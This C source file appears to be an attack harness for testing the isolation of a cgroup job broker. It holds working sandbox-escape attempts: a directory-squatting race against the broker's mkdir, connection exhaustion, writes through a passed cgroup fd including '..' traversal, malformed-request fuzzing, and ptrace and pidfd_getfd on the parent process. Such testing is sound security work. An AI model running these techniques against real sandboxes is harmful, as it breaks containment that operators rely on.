/* brokatk MODE ...: attacks on cginit's job broker, for scenario 19. Run
 * with the worker's uid, as a hostile job or a hostile worker. Every
 * attempt that works prints one "escaped: WHAT" line on stdout; the rest
 * say what the kernel or the broker answered on stderr.
 *   squat DIR SECONDS  watch DIR (jobs/) with inotify; each job-N the
 *                      broker makes is rmdir'ed at once and made again by
 *                      us, so that the broker's openat by name, right after
 *                      its mkdir, opens our cgroup. Prints "squatted N".
 *   hold N             N connections to $CGINIT_BROKER, each granted a job,
 *                      held until killed. Prints "held N" once they are.
 *   ask                one job from the broker, then tries, with the fd it
 *                      passes: to move itself in, clone3 into it, write its
 *                      limits, mkdir below it.
 *   junk               garbage to the broker: oversized, fds in
 *                      SCM_RIGHTS, empty, a half request, garbage after a
 *                      grant; then one well-formed request, which must be
 *                      served.
 *   parent             what a job can do to its runner (its parent, same
 *                      uid): PTRACE_SEIZE it, pidfd_getfd its fds. */
#define _GNU_SOURCE
#include <errno.h>
#include <stddef.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#define INTO_CGROUP 0x200000000ULL

struct clone3_args {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack,
		stack_size, tls, set_tid, set_tid_size, cgroup;
};

static int connect_broker(void)
{
	const char *a = getenv("CGINIT_BROKER");
	if (!a || a[0] != '@') {
		fprintf(stderr, "brokatk: no CGINIT_BROKER\n");
		exit(2);
	}
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	size_t n = strlen(a + 1);
	memcpy(sa.sun_path + 1, a + 1, n);
	int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa,
			      (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) < 0) {
		fprintf(stderr, "brokatk: connect: %s\n", strerror(errno));
		if (fd >= 0)
			close(fd);
		return -1;
	}
	struct timeval tv = {.tv_sec = 5};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return fd;
}

/* The reply; the passed fd in *cg (or -1). */
static ssize_t get_reply(int fd, char *buf, size_t cap, int *cg)
{
	union {
		struct cmsghdr h;
		char b[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct iovec iov = {.iov_base = buf, .iov_len = cap - 1};
	struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.b,
			    .msg_controllen = sizeof(ctl.b)};
	*cg = -1;
	ssize_t n = recvmsg(fd, &mh, MSG_CMSG_CLOEXEC);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	if (c && c->cmsg_type == SCM_RIGHTS)
		memcpy(cg, CMSG_DATA(c), sizeof(int));
	return n;
}

static int ask_job(const char *req, int *cg, char *reply, size_t cap)
{
	int fd = connect_broker();
	if (fd < 0)
		return -1;
	if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0 || get_reply(fd, reply, cap, cg) <= 0) {
		fprintf(stderr, "brokatk: no reply: %s\n", strerror(errno));
		close(fd);
		return -1;
	}
	return fd;
}

static int squat(const char *dir, int seconds)
{
	int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int in = inotify_init1(IN_CLOEXEC);
	if (dfd < 0 || in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0) {
		fprintf(stderr, "brokatk: inotify on %s: %s\n", dir, strerror(errno));
		return 2;
	}
	time_t end = time(NULL) + seconds;
	char mine[256] = "";
	unsigned squatted = 0, tries = 0;
	alarm((unsigned)seconds);
	while (time(NULL) < end) {
		char buf[4096] __attribute__((aligned(8)));
		ssize_t n = read(in, buf, sizeof(buf));
		if (n <= 0)
			break;
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *ev = (struct inotify_event *)p;
			p += sizeof(*ev) + ev->len;
			if (!ev->len || strncmp(ev->name, "job-", 4) != 0)
				continue;
			if (strcmp(ev->name, mine) == 0) {
				mine[0] = '\0';
				continue;
			}
			tries++;
			if (unlinkat(dfd, ev->name, AT_REMOVEDIR) < 0)
				continue;
			if (mkdirat(dfd, ev->name, 0755) == 0) {
				snprintf(mine, sizeof(mine), "%s", ev->name);
				squatted++;
			}
		}
		if (squatted && squatted % 4 == 0 && !mine[0])
			printf("squatted %u of %u\n", squatted, tries);
	}
	printf("squatted %u of %u\n", squatted, tries);
	return 0;
}

static __attribute__((noreturn)) int hold(int n)
{
	int held = 0;
	for (int i = 0; i < n; i++) {
		char reply[600];
		int cg;
		int fd = ask_job("cginit-job 1\n", &cg, reply, sizeof(reply));
		if (fd < 0)
			continue;
		if (strncmp(reply, "ok ", 3) == 0)
			held++;
		else
			fprintf(stderr, "brokatk: hold %d: %s", i, reply);
	}
	printf("held %d\n", held);
	fflush(stdout);
	for (;;)
		pause();
}

static void try_write(int dir, const char *file, const char *value, const char *what)
{
	int fd = openat(dir, file, O_WRONLY | O_CLOEXEC);
	if (fd >= 0 && write(fd, value, strlen(value)) == (ssize_t)strlen(value))
		printf("escaped: %s\n", what);
	else
		fprintf(stderr, "brokatk: %s: %s\n", what, strerror(errno));
	if (fd >= 0)
		close(fd);
}

static int ask(void)
{
	char reply[600];
	int cg;
	int fd = ask_job("cginit-job 1\nmemory.max max\npids.max max\n", &cg, reply, sizeof(reply));
	if (fd < 0 || cg < 0) {
		fprintf(stderr, "brokatk: ask: no job: %s", fd < 0 ? "\n" : reply);
		return 1;
	}
	fprintf(stderr, "brokatk: got %s", reply);
	try_write(cg, "cgroup.procs", "0", "moved itself into a second job from the broker");
	struct clone3_args a;
	memset(&a, 0, sizeof(a));
	a.flags = INTO_CGROUP;
	a.exit_signal = SIGCHLD;
	a.cgroup = (uint64_t)cg;
	long pid = syscall(SYS_clone3, &a, sizeof(a));
	if (pid == 0)
		_exit(0);
	if (pid > 0) {
		waitpid((pid_t)pid, NULL, 0);
		printf("escaped: clone3 into a second job from the broker\n");
	} else {
		fprintf(stderr, "brokatk: clone3 into the second job: %s\n", strerror(errno));
	}
	try_write(cg, "pids.max", "max", "wrote pids.max of a broker job");
	try_write(cg, "cgroup.subtree_control", "+pids", "wrote subtree_control of a broker job");
	if (mkdirat(cg, "sub", 0755) == 0)
		printf("escaped: mkdir below a broker job\n");
	else
		fprintf(stderr, "brokatk: mkdir below: %s\n", strerror(errno));
	/* ".." of the passed fd is jobs/: nothing more than the path gives */
	try_write(cg, "../cgroup.procs", "0", "moved itself into jobs/ through the fd");
	try_write(cg, "../../cgroup.procs", "0", "moved itself into sandbox/ through the fd");
	try_write(cg, "../../worker/cgroup.procs", "0", "moved itself into worker/ through the fd");
	close(cg);
	close(fd);
	return 0;
}

static int junk(void)
{
	static char big[70000];
	memset(big, 'x', sizeof(big));
	char reply[600];
	int cg, fd;
	/* oversized */
	if ((fd = connect_broker()) >= 0) {
		memcpy(big, "cginit-job 1\n", 13);
		ssize_t s = send(fd, big, 4096, MSG_NOSIGNAL);
		ssize_t n = get_reply(fd, reply, sizeof(reply), &cg);
		fprintf(stderr, "brokatk: junk 4096 bytes: sent %zd, reply %s", s, n > 0 ? reply : "none\n");
		close(fd);
	}
	/* fds in SCM_RIGHTS with a valid request: the broker must not keep them */
	if ((fd = connect_broker()) >= 0) {
		int fds[8];
		for (int i = 0; i < 8; i++)
			fds[i] = open("/dev/null", O_RDONLY);
		union {
			struct cmsghdr h;
			char b[CMSG_SPACE(sizeof(fds))];
		} ctl;
		memset(&ctl, 0, sizeof(ctl));
		struct iovec iov = {.iov_base = "cginit-job 1\n", .iov_len = 13};
		struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.b,
				    .msg_controllen = sizeof(ctl.b)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(fds));
		memcpy(CMSG_DATA(c), fds, sizeof(fds));
		ssize_t s = sendmsg(fd, &mh, MSG_NOSIGNAL);
		ssize_t n = get_reply(fd, reply, sizeof(reply), &cg);
		fprintf(stderr, "brokatk: junk fds: sent %zd, reply %s", s, n > 0 ? reply : "none\n");
		/* garbage instead of release */
		send(fd, "release\nrelease\n", 16, MSG_NOSIGNAL);
		n = get_reply(fd, reply, sizeof(reply), &cg);
		fprintf(stderr, "brokatk: junk release: reply %s", n > 0 ? reply : "none\n");
		close(fd);
		for (int i = 0; i < 8; i++)
			close(fds[i]);
	}
	/* empty message, lines of NULs, duplicate keys, huge numbers */
	static const char *const reqs[] = {
		"", "cginit-job 1", "cginit-job 2\n", "cginit-job 1\nmemory.max 1\nmemory.max 2\n",
		"cginit-job 1\npids.max 99999999999999999999999\n", "cginit-job 1\ncpu.max 1 1\n",
		"cginit-job 1\nmemory.max -1\n", "cginit-job 1\nmemory.max 1M\nx\n",
		"cginit-job 1\nmemory.max 1M\0pids.max max\n",
		"cginit-job 1\ncpu.max 1000 100000\ncgroup.procs 1\n",
		"cginit-job 1\nmemory.max 1M\n\n",
		"cginit-job 1\nmemory.max 18446744073709551615\n",
		"cginit-job 1\ncpu.max max\n",
	};
	for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
		if ((fd = connect_broker()) < 0)
			continue;
		size_t len = strlen(reqs[i]);
		if (i == 8)
			len = 41;
		send(fd, reqs[i], len, MSG_NOSIGNAL);
		ssize_t n = get_reply(fd, reply, sizeof(reply), &cg);
		fprintf(stderr, "brokatk: junk %zu: reply %s", i, n > 0 ? reply : "none\n");
		if (cg >= 0)
			close(cg);
		close(fd);
	}
	/* idle connections, closed by the broker after 2 s */
	int idle[8];
	for (int i = 0; i < 8; i++)
		idle[i] = connect_broker();
	sleep(3);
	for (int i = 0; i < 8; i++) {
		if (idle[i] < 0)
			continue;
		ssize_t n = get_reply(idle[i], reply, sizeof(reply), &cg);
		if (n > 0)
			fprintf(stderr, "brokatk: idle %d: %s", i, reply);
		close(idle[i]);
	}
	/* still serving? */
	fd = ask_job("cginit-job 1\npids.max 4\n", &cg, reply, sizeof(reply));
	if (fd < 0 || strncmp(reply, "ok ", 3) != 0) {
		printf("escaped: the broker no longer serves after the junk\n");
		return 1;
	}
	fprintf(stderr, "brokatk: served after the junk: %s", reply);
	close(fd);
	return 0;
}

static int parent(void)
{
	pid_t pp = getppid();
	if (ptrace(PTRACE_SEIZE, pp, 0, 0) == 0) {
		printf("escaped: ptrace of the runner %d\n", (int)pp);
		ptrace(PTRACE_DETACH, pp, 0, 0);
	} else {
		fprintf(stderr, "brokatk: ptrace the runner: %s\n", strerror(errno));
	}
	int pfd = (int)syscall(434 /* pidfd_open */, pp, 0);
	int got = 0, e = 0;
	for (int i = 0; pfd >= 0 && i < 16; i++) {
		int fd = (int)syscall(438 /* pidfd_getfd */, pfd, i, 0);
		if (fd >= 0) {
			got++;
			close(fd);
		} else if (errno != EBADF) {
			e = errno;
		}
	}
	if (got)
		printf("escaped: took %d fds of the runner with pidfd_getfd\n", got);
	else
		fprintf(stderr, "brokatk: pidfd_getfd: %s\n", strerror(e ? e : errno));
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "parent") == 0)
		return parent();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "squat") == 0)
		return squat(argv[2], atoi(argv[3]));
	if (argc == 3 && strcmp(argv[1], "hold") == 0)
		return hold(atoi(argv[2]));
	if (argc == 2 && strcmp(argv[1], "ask") == 0)
		return ask();
	if (argc == 2 && strcmp(argv[1], "junk") == 0)
		return junk();
	fprintf(stderr, "usage: brokatk squat DIR SECONDS | hold N | ask | junk\n");
	return 2;
}
